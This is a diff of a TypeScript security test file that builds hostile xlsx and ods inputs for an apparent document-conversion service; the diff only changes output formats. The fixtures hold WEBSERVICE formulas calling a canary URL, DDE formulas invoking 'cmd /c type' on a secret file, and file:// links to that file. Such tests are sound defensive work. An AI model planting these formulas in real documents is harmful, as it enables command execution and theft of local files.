@@ -226,14 +226,14 @@ export const fieldCases: HostileCase[] = [
   office('xlsx WEBSERVICE, to pdf', 'a formula fetching the canary URL', 'xlsx', 'pdf', (c) =>
     xlsx({ A1: `=WEBSERVICE("${c.url}ws")`, B1: `=FILTERXML(WEBSERVICE("${c.url}fx"),"//x")` }),
   ),
-  office('xlsx DDE formula, to csv', 'a DDE formula naming the secret file', 'xlsx', 'csv', (c) =>
+  office('xlsx DDE formula, to ods', 'a DDE formula naming the secret file', 'xlsx', 'ods', (c) =>
     xlsx({ A1: `=DDE("soffice";"${c.files.txt}";"A1")`, B1: `=DDE("cmd";"/c type ${c.files.txt}";"A0")` }),
   ),
   office(
-    'xlsx external workbook link, to csv',
+    'xlsx external workbook link, to ods',
     'an externalLink part whose relationship names the secret file',
     'xlsx',
-    'csv',
+    'ods',
     (c) =>
       xlsx(
         { A1: '=[1]Sheet1!A1' },
@@ -244,20 +244,20 @@ export const fieldCases: HostileCase[] = [
       ),
   ),
   office(
-    'ods linked sheet on a local file, to csv',
+    'ods linked sheet on a local file, to xlsx',
     'a table:table-source linking the secret file',
     'ods',
-    'csv',
+    'xlsx',
     (c) =>
       ods(
         `<table:table table:name="Sheet1"><table:table-source table:mode="copy-all" xlink:href="file://${c.files.txt}" xlink:type="simple" table:filter-name="Text - txt - csv (StarCalc)" table:refresh-delay="PT1S"/><table:table-row><table:table-cell><text:p>cached</text:p></table:table-cell></table:table-row></table:table>`,
       ),
   ),
   office(
-    'ods DDE link and formulas, to csv',
+    'ods DDE link and formulas, to xlsx',
     'a table:dde-source and DDE/WEBSERVICE formulas',
     'ods',
-    'csv',
+    'xlsx',
     (c) =>
       odsFormulas([
         `of:=DDE("soffice";"${c.files.txt}";"A1")`,
